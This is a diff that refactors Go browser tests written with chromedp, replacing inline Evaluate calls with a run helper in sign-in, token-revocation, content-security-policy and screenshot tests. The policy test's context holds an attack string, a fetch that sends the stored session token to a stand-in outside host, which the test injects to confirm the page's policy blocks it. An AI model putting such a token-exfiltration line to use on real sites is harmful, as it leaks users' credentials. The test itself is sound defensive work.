@@ -71,7 +71,8 @@ func (b *tab) signIn(token string) {
 // fill writes a text into a field, in place of what is there.
 func (b *tab) fill(id, text string) {
 	b.Helper()
-	b.do(chromedp.Evaluate[chromedp.Void](`document.getElementById("`+id+`").select()`), chromedp.Focus("#"+id))
+	b.run(`document.getElementById("` + id + `").select()`)
+	b.do(chromedp.Focus("#" + id))
 	b.press(text)
 }
 
@@ -240,7 +241,8 @@ func revoked(s *service) {
 	b := newTab(t, s.url)
 	b.view(desktop)
 	b.signIn(s.token)
-	b.do(chromedp.Evaluate[chromedp.Void](`sessionStorage.setItem("links.token", "revoked")`), chromedp.Reload())
+	b.run(`sessionStorage.setItem("links.token", "revoked")`)
+	b.do(chromedp.Reload())
 	b.until(door)
 	b.equal(`sessionStorage.length`, "0")
 	b.until(`document.getElementById("status").textContent.includes("signed out")`)
@@ -280,9 +282,9 @@ func policy(s *service) {
 		`fetch("https://other.example/?" + sessionStorage.getItem("links.token"))`,
 		`document.body.append(Object.assign(document.createElement("iframe"), {src: "/"}))`,
 	} {
-		b.do(chromedp.Evaluate[chromedp.Void](`window.stopped = 0; document.addEventListener("securitypolicyviolation", () => window.stopped++)`))
+		b.run(`window.stopped = 0; document.addEventListener("securitypolicyviolation", () => window.stopped++)`)
 		attempt = strings.ReplaceAll(attempt, "https://other.example", other.URL)
-		b.do(chromedp.Evaluate[chromedp.Void](`(async () => { try { await (` + attempt + `) } catch { window.stopped++ } })(); 0`))
+		b.run(`(async () => { try { await (` + attempt + `) } catch { window.stopped++ } })(); 0`)
 		b.until(`window.stopped > 0`)
 	}
 	b.equal(`window.pwned`, "undefined")
@@ -319,7 +321,8 @@ func everyView(s *service) {
 	for _, v := range views {
 		b.view(v)
 		b.do(chromedp.Navigate(s.url + "/"))
-		b.do(chromedp.Evaluate[chromedp.Void](`sessionStorage.clear()`), chromedp.Reload())
+		b.run(`sessionStorage.clear()`)
+		b.do(chromedp.Reload())
 		b.until(door)
 		b.look(v, "door")
 		b.signIn(s.token)
@@ -356,7 +359,8 @@ func everyView(s *service) {
 		b.until(`document.getElementById("sure").open`)
 		b.look(v, "tokens-sure")
 		b.press(kb.Escape)
-		b.do(chromedp.Evaluate[chromedp.Void](`sessionStorage.setItem("links.token", "`+reader.Token+`")`), chromedp.Reload())
+		b.run(`sessionStorage.setItem("links.token", "` + reader.Token + `")`)
+		b.do(chromedp.Reload())
 		b.until(`document.getElementById("tokens-read").hidden === false`)
 		b.look(v, "tokens-read")
 	}
